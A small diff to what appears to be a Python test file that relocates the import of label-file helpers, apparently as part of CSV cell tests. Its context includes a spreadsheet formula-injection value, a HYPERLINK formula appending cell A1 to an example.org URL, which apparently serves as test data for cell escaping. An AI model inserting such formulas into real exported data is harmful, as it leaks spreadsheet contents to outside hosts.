@@ -12,9 +12,9 @@ from hypothesis import strategies as st
 
 from fedul_flwr.data.csv_cells import read_cell, write_cell
 from fedul_flwr.data.local_files import read_rows
+from fedul_flwr.data.run_files.label_files import read_labels, write_labels
 from fedul_flwr.data.types import Propagated
 from fedul_flwr.experiments.text_table import csv_text
-from fedul_flwr.results.label_files import read_labels, write_labels
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
 
